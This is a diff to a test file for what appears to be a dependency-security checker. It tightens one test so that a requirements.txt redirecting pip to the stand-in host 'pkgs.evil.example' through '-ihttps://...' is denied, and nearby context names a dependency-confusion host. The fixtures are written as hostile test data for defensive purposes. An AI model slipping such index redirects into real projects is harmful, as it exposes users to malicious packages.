@@ -212,9 +212,10 @@ describe('lockfiles and installer syntax, read the way the tools read it', () =>
     expect(why(e, 'pnpm-lock.yaml')).toMatch(/dependency confusion: resolved host "npm\.evil\.example"/);
   });
 
-  test('requirements.txt with the index URL attached to the short option (-ihttps://...) is an index change', async () => {
+  test('requirements.txt with the index URL attached to the short option (-ihttps://...) is an index change, on a host outside the allow list a deny', async () => {
     const e = await withBaseline((r) => r.write('requirements.txt', '-ihttps://pkgs.evil.example/simple\nrequests==2.32.0\n'));
-    expect(file(e, 'requirements.txt')).toMatchObject({ tier: 'high', decision: 'approval_required' });
+    expect(file(e, 'requirements.txt')).toMatchObject({ tier: 'high', decision: 'deny' });
+    expect(why(e, 'requirements.txt')).toMatch(/source host "pkgs\.evil\.example" is not in the network allow list/);
     expect(why(e, 'requirements.txt')).toMatch(/"-i" "https:\/\/pkgs\.evil\.example\/simple": pip now resolves packages from there.*not in the network allow list\)\. \[python_index\]/);
   });
 
